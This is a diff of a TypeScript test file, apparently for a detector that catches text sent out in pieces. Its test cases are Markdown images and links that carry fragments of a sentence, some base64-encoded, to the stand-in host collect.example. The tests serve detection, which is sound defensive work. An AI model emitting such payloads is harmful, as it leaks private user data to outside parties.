@@ -14,17 +14,17 @@ function cut(said: string, at: number, make: (piece: string, index: number) => s
 describe('a text that goes out in pieces', () => {
   const SAID = 'the tenant of the flat is in arrears';
   it.each([
-    [
-      'of a query',
-      `![](https://collect.example/i?a1=the%20tenant%20o&a2=f%20the%20flat%20i&a3=s%20in%20arrears)`,
-    ],
+    ['of a query', `![](https://collect.example/i?a1=the%20tenant%20o&a2=f%20the%20flat%20i&a3=s%20in%20arrears)`],
     ['of a query, by letters', '![](https://collect.example/i?a=the+ten&b=ant+of+the+fl&c=at+is+in+arrears)'],
     ['an image each', cut(SAID, 9, (piece, at) => `![](https://collect.example/${at}?k=${encodeURIComponent(piece)})`)],
     [
       'a link each',
       cut(SAID, 9, (piece, at) => `[${at}](https://collect.example/p?n=${at}&d=${piece.replaceAll(' ', '+')})`),
     ],
-    ['an encoded link each', cut(inBase64(SAID), 14, (piece, at) => `[${at}](https://collect.example/p?n=${at}&d=${piece})`)],
+    [
+      'an encoded link each',
+      cut(inBase64(SAID), 14, (piece, at) => `[${at}](https://collect.example/p?n=${at}&d=${piece})`),
+    ],
   ])('is told: %s', (_, text) => expect(typesIn(text)).not.toEqual([]));
 
   it.each([
